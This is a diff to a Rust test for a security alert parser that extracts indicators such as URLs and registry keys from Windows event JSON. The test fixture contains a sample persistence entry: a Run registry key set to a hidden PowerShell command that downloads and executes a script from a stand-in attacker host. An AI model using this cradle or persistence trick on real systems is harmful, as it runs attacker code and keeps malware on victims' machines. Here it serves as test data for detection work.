@@ -1041,11 +1041,18 @@ fn fields_of_wfp_virustotal_ms_graph_and_registry_events_are_read() {
                "data":{"win":{"system":{"eventID":"13"},"eventdata":{"eventType":"SetValue","image":"C:\\\\Windows\\\\System32\\\\reg.exe",
                "targetObject":"HKU\\\\S-1-5-21-1\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\upd",
                "details":"powershell -w hidden -c iwr http://cradle.evil.example/s.ps1 | iex"}}}}"#,
-            &[(
-                "data.win.eventdata.details",
-                Kind::Url,
-                "http://cradle.evil.example/s.ps1",
-            )],
+            &[
+                (
+                    "data.win.eventdata.details",
+                    Kind::Url,
+                    "http://cradle.evil.example/s.ps1",
+                ),
+                (
+                    "data.win.eventdata.targetObject",
+                    Kind::Regkey,
+                    r"hkey_users\s-1-5-21-1\software\microsoft\windows\currentversion\run\upd",
+                ),
+            ],
         ),
     ];
     for (what, alert, want) in cases {
